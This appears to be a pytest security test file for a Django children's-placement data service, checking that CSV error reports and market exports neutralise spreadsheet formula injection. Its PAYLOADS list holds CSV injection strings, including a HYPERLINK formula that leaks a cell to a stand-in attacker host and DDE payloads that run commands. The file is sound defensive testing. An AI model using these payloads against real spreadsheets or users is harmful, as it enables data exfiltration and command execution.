"""Attack: CSV formula injection. A cell that starts with = + - @ (or a tab or carriage return) is run by
a spreadsheet. Uploaded SSDA903 cells reach error reports (web, API, command) and setting names from the
shared Ofsted register reach every authority's market CSV: each export must write them inert."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.cache import cache
from django.core.management import CommandError, call_command
from django.urls import reverse
from rest_framework.test import APIClient

from placements.importing import ssda903_import
from placements.models import ImportJob, Setting
from sufficiency.api.services import api_client_create
from sufficiency.core.csv import BOM, csv_text, resanitise, safe_cell
from tests.dashboards.conftest import register  # noqa: F401 - the dashboards' hand-built register
from tests.ssda903_files import episodes, header

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://attacker.invalid/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.removeprefix(BOM))) for cell in row]


def _assert_inert(text: str) -> None:
    live = [cell for cell in _cells(text) if cell.startswith(("=", "@", "\t", "\r")) or cell.startswith(("+", "-")) and not cell.lstrip("+-").replace(".", "").replace(",", "").rstrip("%").isdigit()]  # fmt: skip
    assert not live, live


@pytest.fixture(autouse=True)
def _fresh_throttle():
    cache.clear()
    yield
    cache.clear()


def _poisoned_files() -> list[tuple[str, bytes]]:
    """A child whose episode has a formula as its placement type (PLACE) and as its postcode (the reader
    splits on commas, so these payloads have none)."""
    return [
        ("header.csv", header({"CHILD": "W0001", "DOB": "17/05/2012"})),
        ("episodes.csv", episodes({"CHILD": "W0001", "DECOM": "01/04/2024", "PLACE": PAYLOADS[2], "PL_POST": PAYLOADS[4]})),
    ]  # fmt: skip


def test_the_helper_prefixes_formula_cells_and_keeps_numbers_and_quoting():
    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
    assert safe_cell("-12") == "-12" and safe_cell("+3.5%") == "+3.5%" and safe_cell(-4) == -4
    assert safe_cell("Oak Lodge") == "Oak Lodge" and safe_cell(None) is None
    text = csv_text(["name", "note"], [['Say "hi", then =1+1', "a\nb"]])
    assert list(csv.reader(io.StringIO(text))) == [["name", "note"], ['Say "hi", then =1+1', "a\nb"]]
    assert resanitise(resanitise("=1+1\r\n")) == "'=1+1\r\n"  # idempotent: never a second apostrophe


def test_an_ssda903_error_report_writes_uploaded_formulas_inert(walsall):
    # Refused (strict) or imported under the policy (the bad rows held back): the report is inert either way.
    for strict in (True, False):
        outcome = ssda903_import(authority=walsall, files=_poisoned_files(), strict=strict)
        assert outcome.ok is not strict
        report = outcome.error_report_csv
        assert "'" + PAYLOADS[2] in _cells(report)
        _assert_inert(report)


def test_the_import_command_writes_an_inert_report_with_a_byte_order_mark(walsall, tmp_path):
    paths = []
    for name, content in _poisoned_files():
        path = tmp_path / name
        path.write_bytes(content)
        paths.append(str(path))
    report = tmp_path / "errors.csv"
    with pytest.raises(CommandError):
        call_command(
            "import_ssda903", "--authority", "335", "--strict", *paths, "--error-report", str(report)
        )
    raw = report.read_bytes()
    assert raw.startswith(BOM.encode())
    assert "'" + PAYLOADS[2] in _cells(raw.decode("utf-8-sig"))
    _assert_inert(raw.decode("utf-8-sig"))


@pytest.fixture
def poisoned_job(walsall):
    """An import whose stored report holds raw formulas (as reports stored before the fix do)."""
    report = "file,row,column,value,message\n" + "".join(
        f"episodes.csv,{n},PLACE,{_quote(p)},Unknown code\n" for n, p in enumerate(PAYLOADS, start=2)
    )
    return ImportJob.objects.create(
        authority=walsall, status="failed", error_report=report, error_count=len(PAYLOADS)
    )


def _quote(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


def test_the_web_error_report_download_is_inert(client, data_manager, poisoned_job):
    client.force_login(data_manager)
    response = client.get(reverse("placements:import-errors", kwargs={"code": "335", "pk": poisoned_job.pk}))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response.content.startswith(BOM.encode())
    text = response.content.decode("utf-8-sig")
    assert "'" + PAYLOADS[0] in _cells(text)
    _assert_inert(text)


def test_the_api_error_report_download_is_inert(walsall, poisoned_job):
    token = api_client_create(authority=walsall, name="imports", scopes=["write:import"])[1]
    response = APIClient().get(
        f"/api/v1/imports/{poisoned_job.pk}/errors/", HTTP_AUTHORIZATION=f"Bearer {token}"
    )
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    assert "'" + PAYLOADS[2] in _cells(text)
    _assert_inert(text)


def test_a_setting_name_from_the_ofsted_register_is_inert_in_another_authoritys_market_csv(
    client,
    la_user,
    register,  # noqa: F811
):
    from sufficiency.dashboards.services import dashboard_rollup_compute

    # SC0002 is a Sandwell home near Walsall: its name is shared reference data Walsall's market lists.
    Setting.objects.filter(urn="SC0002").update(name=PAYLOADS[0])
    dashboard_rollup_compute(authority=register["walsall"])
    client.force_login(la_user)
    url = reverse("dashboards:csv", kwargs={"code": "335", "page": "market", "key": "settings"})
    response = client.get(url)
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    assert "'" + PAYLOADS[0] in _cells(text)
    _assert_inert(text)


def test_the_unmet_need_ledger_csv_goes_through_the_helper(client, la_user):
    client.force_login(la_user)
    response = client.get(reverse("placements:finding-ledger-csv", kwargs={"code": "335"}))
    assert response.status_code == 200
    assert response.content.startswith(BOM.encode())
    _assert_inert(response.content.decode("utf-8-sig"))
